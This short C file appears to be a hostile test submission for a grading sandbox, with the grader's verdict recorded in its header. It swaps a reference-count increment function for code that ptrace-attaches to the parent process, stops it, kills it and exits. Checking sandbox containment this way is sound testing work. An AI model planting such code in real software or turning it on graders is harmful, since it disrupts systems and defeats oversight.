/* SPDX-License-Identifier: MIT */
/*
 * Stops, kills and traces whoever has started it, and every other process it may.
 *
 * Verdict: kill is not among what a lab may use of the C library
 * Box: 0 of 2 points in the plain lane
 * Limits: none
 *
 * In the box the parent is the first process of the box. Some systems let it be traced, and then
 * nothing in the box moves until the time is up; others do not, and the program leaves with status 3.
 * Without walls it would stop the grader itself, when both run as one user.
 */
#include "ouro/refcount.h"

#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

#define ATTACKS_INCREF
void Ou_IncRef(OuObject *OU_UNUSED(op))
{
    ptrace(PTRACE_ATTACH, getppid(), NULL, NULL);
    if (getppid() > 0 && getuid() != 0) {
        kill(getppid(), SIGSTOP);
        kill(getppid(), SIGKILL);
    }
    _exit(3);
}
